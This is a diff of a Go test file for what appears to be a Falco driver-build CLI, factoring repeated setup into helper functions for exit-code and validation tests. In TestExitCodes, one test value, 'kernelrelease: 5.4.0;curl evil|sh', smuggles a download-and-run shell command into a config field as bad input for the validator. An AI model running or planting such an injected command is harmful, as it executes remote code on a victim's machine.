@@ -7,6 +7,8 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"github.com/falcosecurity/dbg/config/configtest"
 )
 
 var update = flag.Bool("update", false, "rewrite golden files")
@@ -39,7 +41,26 @@ func golden(t *testing.T, name, got string) {
 	}
 }
 
+// testKernels is the config dir of the CLI tests.
 const testKernels = "testdata/kernels"
+
+// copyTestKernels copies testKernels into dir, for a test that changes it.
+func copyTestKernels(t *testing.T, dir string) {
+	t.Helper()
+	if err := os.CopyFS(dir, os.DirFS(testKernels)); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// appendToFile appends text to the file at path.
+func appendToFile(t *testing.T, path, text string) {
+	t.Helper()
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	configtest.WriteFile(t, path, string(data)+text)
+}
 
 func TestGoldenOutputs(t *testing.T) {
 	tests := []struct {
@@ -66,12 +87,8 @@ func TestGoldenOutputs(t *testing.T) {
 
 func TestExitCodes(t *testing.T) {
 	bad := t.TempDir()
-	if err := os.CopyFS(bad, os.DirFS(testKernels)); err != nil {
-		t.Fatal(err)
-	}
-	if err := os.WriteFile(filepath.Join(bad, "x86_64", "broken.yaml"), []byte("kernelrelease: 5.4.0;curl evil|sh\n"), 0o644); err != nil {
-		t.Fatal(err)
-	}
+	copyTestKernels(t, bad)
+	configtest.WriteFile(t, filepath.Join(bad, "x86_64", "broken.yaml"), "kernelrelease: 5.4.0;curl evil|sh\n")
 	tests := []struct {
 		name string
 		args []string
@@ -98,14 +115,9 @@ func TestExitCodes(t *testing.T) {
 
 func TestValidateNamesTheFile(t *testing.T) {
 	bad := t.TempDir()
-	if err := os.CopyFS(bad, os.DirFS(testKernels)); err != nil {
-		t.Fatal(err)
-	}
+	copyTestKernels(t, bad)
 	path := filepath.Join(bad, "x86_64", "ubuntu-generic_5.15.0-91-generic_101.yaml")
-	data, _ := os.ReadFile(path)
-	if err := os.WriteFile(path, append(data, "driverversion: 9.1.0+driver\n"...), 0o644); err != nil {
-		t.Fatal(err)
-	}
+	appendToFile(t, path, "driverversion: 9.1.0+driver\n")
 	out, _, code := dbg(t, "--config-dir", bad, "validate")
 	dvPath := filepath.Join(bad, "driverversions.yaml")
 	want := dvPath + ":6:5: sha256: warning: 10.0.0+driver is not pinned: its source tarball is not checked (the digest dbg gets is recorded in the manifest)\n" +
@@ -133,9 +145,7 @@ func TestValidateWarnsUnpinnedVersions(t *testing.T) {
 	}
 
 	pinned := t.TempDir()
-	if err := os.CopyFS(pinned, os.DirFS(testKernels)); err != nil {
-		t.Fatal(err)
-	}
+	copyTestKernels(t, pinned)
 	data, _ := os.ReadFile(dvPath)
 	pin := "\n    sha256: " + strings.Repeat("0", 64) + "\n"
 	data = bytes.Replace(data, []byte(`"10.0.0+driver"`+"\n"), []byte(`"10.0.0+driver"`+pin), 1)
